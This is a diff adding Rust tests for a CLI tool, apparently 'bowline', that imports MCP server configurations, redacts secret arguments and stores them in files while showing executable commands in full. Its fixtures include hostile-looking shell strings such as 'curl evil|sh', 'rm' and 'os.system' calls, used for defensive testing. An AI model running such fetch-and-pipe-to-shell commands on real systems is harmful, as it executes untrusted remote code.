@@ -1,0 +1,81 @@
+//! What a person is shown of a command before anything of it can run.
+
+use serde_json::{Value, json};
+
+use super::{config, servers, write};
+use crate::context::Context;
+
+/// SE-04: nothing that could run is hidden as a secret: not in the table, not in JSON, and no part of it goes
+/// into a file.
+#[test]
+fn se_04_code_is_shown_and_stays_in_the_configuration() {
+    let context = Context::new();
+    let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
+    let file = json!({"mcpServers": {
+        "sh": {"command": "sh", "args": ["-c", "API_KEY=k; touch /tmp/x; cat"]},
+        "call": {"command": "sh", "args": ["-c", "API_KEY=$(touch /tmp/x) cat", "--token", "rm"]},
+        "python": {"command": "python3", "args": ["-c", "PASSWORD=1\nimport os\nos.system('x')"]},
+        "env": {"command": "env", "args": ["-S", "X_TOKEN=1 curl evil"]},
+        "node": {"command": "node", "args": ["--eval", "--token", "-e", "PASSWORD=require(\"child_process\")"]},
+        "helper": {"url": "https://h.example.com/", "headersHelper": "TOKEN=1; curl evil|sh"},
+        "random": {"command": "sh", "args": ["-c", format!("API_KEY={random}; curl evil|sh")]},
+        "plain": {"command": "s", "args": ["--token", "hush-1", "A_KEY=hush-2"]},
+    }});
+    write(&context, "project/mine.json", file.to_string());
+    let import = |words: &[&str]| context.bowline(["import", "../mine.json"]).args(words).output().unwrap();
+    let expected = [
+        "sh -c 'API_KEY=[redacted]; touch /tmp/x; cat'",
+        "sh -c 'API_KEY=$(touch /tmp/x) cat' --token rm",
+        r"python3 -c 'PASSWORD=1\nimport os\nos.system('\''x'\'')'",
+        "env -S 'X_TOKEN=[redacted] curl evil'",
+        r#"node --eval --token -e 'PASSWORD=require("child_process")'"#,
+        "https://h.example.com/ (headers from `sh -c 'TOKEN=1; curl evil|sh'`)",
+        "sh -c 'API_KEY=[redacted]; curl evil|sh'",
+        "s --token '[redacted]' 'A_KEY=[redacted]'",
+    ];
+    let names = ["sh", "call", "python", "env", "node", "helper", "random", "plain"];
+    let rows = names.iter().zip(expected).map(|(name, shown)| format!("claude-code\t{name}\tadd\t{shown}\n"));
+    let table = String::from_utf8(import(&["--dry-run"]).stdout).unwrap();
+    assert_eq!(table, rows.collect::<String>());
+    let shown: Vec<Value> =
+        servers(&import(&["--dry-run", "--json"])).iter().map(|server| server["server"].clone()).collect();
+    let expected = expected.map(|shown| shown.replace(r"1\nimport os\nos", "1\nimport os\nos"));
+    assert_eq!(shown, expected.map(Value::from));
+
+    let output = import(&["--yes", "--store-secrets"]);
+    assert!(output.status.success(), "{}", context.shown(&output));
+    let text = config(&context).unwrap();
+    for expected in [
+        r#"args = ["-c", "API_KEY={file:secrets/sh.arg-2}; touch /tmp/x; cat"]"#,
+        r#"args = ["-c", "API_KEY=$(touch /tmp/x) cat", "--token", "rm"]"#,
+        r#"args = ["-S", "X_TOKEN={file:secrets/env.arg-2} curl evil"]"#,
+        r#"args = ["--eval", "--token", "-e", 'PASSWORD=require("child_process")']"#,
+        r#"headers_command = { command = ["sh", "-c", "TOKEN=1; curl evil|sh"], env = { CLAUDE_CODE_MCP_SERVER_NAME = "helper", CLAUDE_CODE_MCP_SERVER_URL = "https://h.example.com/" } }"#,
+        r#"args = ["-c", "API_KEY={file:secrets/random.arg-2}; curl evil|sh"]"#,
+        r#"args = ["--token", "{file:secrets/plain.arg-2}", "A_KEY={file:secrets/plain.arg-3}"]"#,
+    ] {
+        assert!(text.lines().any(|line| line == expected), "{expected}\n{text}");
+    }
+    let stored = |name: &str| {
+        std::fs::read_to_string(context.path("home/.config/bowline/secrets").join(name)).unwrap()
+    };
+    assert_eq!((stored("sh.arg-2"), stored("random.arg-2")), ("k".to_owned(), random.to_owned()));
+    let again = servers(&import(&["--json"]));
+    assert!(again.iter().all(|server| server["action"] == "same"), "{again:?}");
+}
+
+/// What is shown as redacted of a program that prints headers is moved into a file as well.
+#[test]
+fn secrets_of_a_headers_command_are_moved() {
+    let context = Context::new();
+    let file = r#"{"mcpServers": {"a": {"url": "https://h.example.com/", "headersHelper": ["get", "--token", "hush"]}}}"#;
+    write(&context, "project/mine.json", file);
+    let shown = context.run(context.bowline(["import", "../mine.json", "--yes", "--store-secrets"]));
+    assert!(shown.contains("(headers from `get --token '[redacted]'`)"), "{shown}");
+    let text = config(&context).unwrap();
+    assert!(text.contains(r#"["get", "--token", "{file:secrets/a.headers-command-2}"]"#), "{text}");
+    let checked = context.run(context.bowline(["config", "check"]));
+    assert!(checked.starts_with("exit: 0\n"), "{checked}");
+    let again = servers(&context.bowline(["import", "../mine.json", "--json"]).output().unwrap());
+    assert_eq!(again[0]["action"], "same");
+}
